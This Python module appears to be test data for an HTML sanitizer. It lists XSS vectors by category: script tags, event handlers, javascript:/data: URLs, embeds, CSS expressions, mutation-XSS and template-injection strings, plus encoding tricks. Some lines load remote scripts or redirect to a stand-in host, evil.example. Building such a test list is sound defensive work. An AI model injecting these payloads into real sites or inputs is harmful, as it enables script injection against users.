"""Markup that runs a script, or loads or hides something, if it is served unchanged.

Scripts call alert(1).
"""

from __future__ import annotations


def split(block: str) -> tuple[str, ...]:
    return tuple(
        markup.strip() for line in block.strip().splitlines() for markup in line.split("¦")
    )


SCRIPTS = (
    *split(r"""
    <script>alert(1)</script> ¦ <SCRIPT>alert(1)</SCRIPT> ¦ <script >alert(1)</script >
    <script/x>alert(1)</script> ¦ <scr<script>ipt>alert(1)</scr</script>ipt> ¦ <<script>alert(1)//<</script>
    <script type="module">alert(1)</script> ¦ <script>alert(1)
    <script src="data:text/javascript,alert(1)"></script> ¦ <script src="//evil.example/x.js"></script>
    <svg><script>alert(1)</script></svg> ¦ <svg><script>&#97;lert(1)</script></svg>
    <math><script>alert(1)</script></math> ¦ <svg><script xlink:href='data:,alert(1)'/></svg>
    <noscript><p title='</noscript><script>alert(1)</script>'> ¦ <title><script>alert(1)</script></title>
    <textarea></textarea><script>alert(1)</script> ¦ <xmp></xmp><script>alert(1)</script>
    <template><script>alert(1)</script></template> ¦ <style></style><script>alert(1)</script>
    --><script>alert(1)</script> ¦ ]]><script>alert(1)</script> ¦ <![CDATA[<script>alert(1)</script>]]>
    <?xml version='1.0'?><script>alert(1)</script> ¦ <!--><script>alert(1)</script>-->
    <!-- --!><script>alert(1)</script> ¦ <!doctype x [<script>alert(1)</script>]>
    """),
    *("<script\n>alert(1)</script\n>", "<script><!--\nalert(1)\n--></script>"),
)
HANDLERS = (
    *split(r"""
    <img src=x onerror=alert(1)> ¦ <img/src=x/onerror=alert(1)> ¦ <IMG SRC=x ONERROR=alert(1)>
    <img src=x onerror=`alert(1)`> ¦ <img src='x' x='>' onerror=alert(1)> ¦ <body onload=alert(1)>
    <svg/onload=alert(1)> ¦ <svg><g onload=alert(1)></g></svg> ¦ <svg><set onbegin=alert(1) attributename=x></svg>
    <svg><a><rect onclick=alert(1) width=99 height=99></rect></a></svg> ¦ <svg><style onload=alert(1)></style></svg>
    <input autofocus onfocus=alert(1)> ¦ <a id=x tabindex=1 onfocus=alert(1)> ¦ <details open ontoggle=alert(1)>
    <video><source onerror=alert(1)></video> ¦ <object data=x onerror=alert(1)></object>
    <p onmouseover=alert(1)>x</p> ¦ <b onclick=alert(1)>x</b> ¦ <table onmouseenter=alert(1)><tr><td>x
    <div style='animation:x' onanimationstart=alert(1)>x</div> ¦ <a href="#" onclick="alert(1)">x</a>
    <p id=x" onclick="alert(1)">x</p> ¦ <p title='x' onclick='alert(1)'>x</p> ¦ <x onclick=alert(1)>x</x>
    <math><mi onclick=alert(1)>x</mi></math> ¦ <base onclick=alert(1)> ¦ <img alt='`' src=x onerror=alert(1)//`>
    """),
    "<img src=x\nonerror\n=\nalert(1)>",
)
ADDRESSES = (
    *split(r"""
    javascript:alert(1) ¦ JaVaScRiPt:alert(1) ¦ &#106;avascript:alert(1) ¦ &#x6A;avascript&colon;alert(1)
    javascript&#58;alert(1) ¦ javascript:&#97;lert(1) ¦ jav&#x09;ascript:alert(1)
    javascript://a.example/%0aalert(1) ¦ javascript:alert(1)//https://a.example/ ¦ javascript:alert(1)//a.pdf
    vbscript:alert(1) ¦ livescript:alert(1) ¦ data:text/html,<script>alert(1)</script>
    data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== ¦ data:image/svg+xml,<svg onload=alert(1)>
    blob:alert(1) ¦ filesystem:alert(1) ¦ view-source:javascript:alert(1) ¦ feed:javascript:alert(1)
    intent:alert(1) ¦ file:///etc/alert(1)
    """),
    *(
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\x01javascript:alert(1)",
    ),
)
LINKS = tuple(f'<a href="{address}">länk</a>' for address in ADDRESSES)
EMBEDS = (
    *split(r"""
    <iframe src="javascript:alert(1)"></iframe> ¦ <iframe srcdoc="<script>alert(1)</script>"></iframe>
    <embed src="javascript:alert(1)"> ¦ <object data="data:text/html,<script>alert(1)</script>"></object>
    <form action="javascript:alert(1)"><button>x</button></form>
    <button formaction="javascript:alert(1)">x</button> ¦ <input type=image src=x formaction="javascript:alert(1)">
    <isindex action="javascript:alert(1)"> ¦ <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
    <meta http-equiv="refresh" content="0;url=https://evil.example/"> ¦ <base href="https://evil.example/">
    <link rel="stylesheet" href="https://evil.example/x.css"> ¦ <link rel=import href="data:text/html,x">
    <style>@import 'https://evil.example/x.css';</style> ¦ <style>*{background:url('javascript:alert(1)')}</style>
    <p style="width:expression(alert(1))">x</p> ¦ <p style="background:url(javascript:alert(1))">x</p>
    <p style="position:fixed;inset:0">x</p> ¦ <math href="javascript:alert(1)">x</math>
    <svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
    <svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>
    <svg><image href="javascript:alert(1)"></image></svg>
    <svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
    <video poster="javascript:alert(1)"></video> ¦ <table background="javascript:alert(1)"><tr><td>x</table>
    <bgsound src="javascript:alert(1)"> ¦ <applet code='javascript:alert(1)'></applet>
    <frameset><frame src="https://evil.example/"></frameset> ¦ <portal src='https://evil.example/'></portal>
    """),
)
# runs only when a parser repairs it, or in an attribute, a script or a feed
BROKEN = (
    *split(r"""
    "><script>alert(1)</script> ¦ '><script>alert(1)</script> ¦ " onfocus="alert(1)" autofocus="
    ' onfocus='alert(1)' autofocus=' ¦ </title><script>alert(1)</script> ¦ </textarea><img src=x onerror=alert(1)>
    </style><img src=x onerror=alert(1)> ¦ </script><script>alert(1)</script>
    &lt;script&gt;alert(1)&lt;/script&gt; ¦ &amp;lt;script&amp;gt;alert(1)
    &#60;script&#62;alert(1)&#60;/script&#62; ¦ \u003cscript\u003ealert(1)
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
    <svg></p><style><a id="</style><img src=x onerror=alert(1)>">
    <form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
    <p><svg><p><style><!--</style><img src=x onerror=alert(1)>
    <table><caption><script>alert(1)</script></caption></table> ¦ <select><img src=x onerror=alert(1)></select>
    <p <img src=x onerror=alert(1)>> ¦ <img src='x' onerror=alert(1) <p> ¦ {{constructor.constructor('alert(1)')()}}
    ${alert(1)} ¦ {% raw %}{{ self }}{% endraw %} ¦ <%= alert(1) %> ¦ <a href='x'b='alert(1)'>
    +ADw-script+AD4-alert(1) ¦ ＜script＞alert(1)＜/script＞
    """),
    *(
        "\ufeff<script>alert(1)</script>",
        "\u202e<script>alert(1)</script>",
        "<\x00script>alert(1)</script>",
    ),
    "<a\x0chref=javascript:alert(1)>x</a>",
)
VECTORS = (*SCRIPTS, *HANDLERS, *LINKS, *EMBEDS, *BROKEN)
